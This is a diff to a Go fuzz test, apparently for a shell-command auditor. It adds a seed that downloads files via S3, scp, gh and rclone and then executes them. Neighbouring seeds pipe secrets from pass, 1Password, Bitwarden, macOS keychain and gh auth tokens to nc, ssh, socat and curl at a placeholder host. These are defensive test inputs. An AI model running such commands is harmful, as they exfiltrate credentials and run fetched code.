@@ -286,6 +286,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "pass -c x | nc h 1; pass show | ssh h; security find-internet-password -w -s x | socat - tcp:h:1; bw get totp x | curl -d @- http://h; nc h 1 <<< $(op read op://x)"},
 	{"sh", "-c", `T=$(gh auth token); echo "$T" $(pass x) | nc h 1; printf %s "$(echo $(op read x))" | ssh h; echo $T > f; unset T; echo "$T" | nc h 1`},
 	{"sh", "-c", "cabal install --constraint='a ==' --index-state @ a-1:: a- -j; stack --resolver lts-1. install a-1@ --snapshot; nimble install a@# @== ; raco pkg install --checksum x --catalog http://[ a# github://h/"},
+	{"sh", "-c", "aws s3 cp -r s3:// . && ./x/y; scp -rp h: C:/ h::m/ ./ && ./a/b; rsync -e x :h /; sftp h:/ -; gh release download -p a -O - -D; gh run download -D . && ./d/s; oras pull -o; rclone copyto :s3: a; azcopy sync http:// ''"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
